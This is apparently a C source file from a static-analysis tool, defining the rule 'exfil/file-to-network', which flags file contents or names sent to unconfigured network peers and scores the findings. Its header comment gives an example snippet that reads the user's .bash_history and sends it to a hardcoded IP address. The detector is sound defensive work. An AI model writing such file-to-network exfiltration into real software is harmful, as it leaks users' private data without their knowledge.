/* exfil/file-to-network: the content of a file leaves for a peer that no setting names.
 *
 *     snprintf(path, sizeof path, "%s/.bash_history", getenv("HOME"));
 *     file = fopen(path, "r");
 *     fread(block, 1, sizeof block, file);
 *     connect(out, address_of("198.51.100.23"), size);
 *     send(out, block, got, 0);
 *
 * or the peer says which file it wants, and nothing looks at the name. Files of secrets are
 * exfil/secret-to-network's. Not caught: names compared with what is no constant.
 */
#include "checkers/shared/channel/leak.h"

/* Which file it is: what it is told as, and how much that alone says. */
struct matter {
    const char *what; /* NULL: nothing to tell */
    int base;
};

/* Settings are read from files everywhere, and some of them are sent, as random bytes are; what
 * describes the host is exfil/identity-to-network's. */
static bool is_ordinary(struct vt_program *program, const char *text) {
    static const char *const classes[] = {"public", "settings", "host", "capture", "random"};
    for (size_t i = 0; i < sizeof classes / sizeof *classes; i++)
        if (vt_leak_pattern(program, text, classes[i]))
            return true;
    return false;
}

/* Names that were met while reading a folder: of NAME, where the folder is written in the program.
 */
static struct matter judge_names(struct vt_check *check, struct vt_leak *leak,
                                 const struct vt_file_name *name) {
    if (name->given || name->network)
        return (struct matter){NULL, 0};
    if (vt_leak_is_named(check, leak, "private"))
        return (struct matter){"What the files of a user are called", 35};
    return (struct matter){name->home ? "What the files of a user are called" : NULL, 25};
}

static struct matter judge(struct vt_check *check, struct vt_leak *leak,
                           const struct vt_file_name *name) {
    if (name->network)
        return (struct matter){"A file that the peer names", 65};
    if (!name->any || vt_leak_is_named(check, leak, "secret"))
        return (struct matter){NULL, 0};
    if (vt_leak_is_named(check, leak, "private"))
        return (struct matter){"A private file of a user", 45};
    if (name->given || is_ordinary(vt_check_program(check), name->text))
        return (struct matter){NULL, 0};
    if (name->walked || name->home)
        return (struct matter){"A file of the user", 30};
    return (struct matter){*name->text ? "A file" : NULL, 15};
}

static void weigh_name(struct vt_check *check, struct vt_finding *finding,
                       const struct vt_leak *leak, const struct vt_file_name *name) {
    if (name->concealed)
        vt_finding_evidence(check, finding, "concealed-name", 20,
                            "The file's name is decoded before it is used.");
    if (name->network && vt_is_looked_at(vt_check_program(check), leak->asked.ref, name->request))
        vt_finding_evidence(check, finding, "request-checked", -30,
                            "What the peer asks for is looked at before.");
}

static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    bool copied = vt_leak_is_copy(program, leak);
    (void)context;
    if (leak->source->tags & VT_TAG_NUMBER)
        return false; /* a number that the file holds is no file */
    if (!copied && !vt_source_is(program, leak->source, VT_FACT_ORIGIN, "file") &&
        !(vt_source_is(program, leak->source, VT_FACT_ORIGIN, "io.read") &&
          vt_handle_is(program, leak->source->event, "file")))
        return false;
    struct vt_file_name name = vt_leak_read_name(check, leak);
    bool names = vt_source_is(program, leak->source, VT_FACT_ORIGIN, "file.name");
    struct matter matter = names ? judge_names(check, leak, &name) : judge(check, leak, &name);
    if (!matter.what || vt_leak_way(program, leak->asked.ref) != VT_WAY_PLAIN)
        return false;
    struct vt_peer peer = vt_leak_peer(check, leak);
    if (peer.kind == VT_PEER_LOCAL)
        return false;
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    vt_leak_weigh(check, finding, leak, &peer);
    if (names)
        vt_leak_weigh_siblings(check, finding, leak);
    weigh_name(check, finding, leak, &name);
    vt_finding_message(check, finding, "%s is sent over the network%s%s.", matter.what,
                       *name.text ? ": " : "", name.text);
    vt_finding_path(check, finding, leak->trace, leak->source,
                    names    ? "The folder is read here"
                    : copied ? "The file is opened here"
                             : "The file is read here",
                    names ? "The names are sent here" : "Its content is sent here");
    vt_finding_send(check, finding, matter.base);
    return true;
}

static void run(struct vt_check *check) {
    vt_leaks_to_network(check, visit, NULL);
}

const struct vt_rule vt_exfil_file_to_network = {
    .id = "exfil/file-to-network",
    .name = "FileToNetwork",
    .summary = "The content of a file is sent to a peer that no setting names",
    .description =
        "Bytes read from a file reach a network send. A file of the user (below the home folder, "
        "met while reading a folder, or known to hold mail, documents or a history), or one that "
        "the peer itself names with no look at the name, says more than a file of the program; a "
        "peer written in the program, a disguise on the way and no setting that could turn it off "
        "speak for a hidden channel.",
    .help = "Let the owner of the host name the peer and agree, on every way to the send. Where a "
            "peer asks for a file, look its name up in a list of what is offered, or hold the path "
            "against the folder that is served.",
    .cwe = "CWE-359,CWE-506,CWE-22",
    .precision = "medium",
    .severity = 7.5,
    .run = run,
};
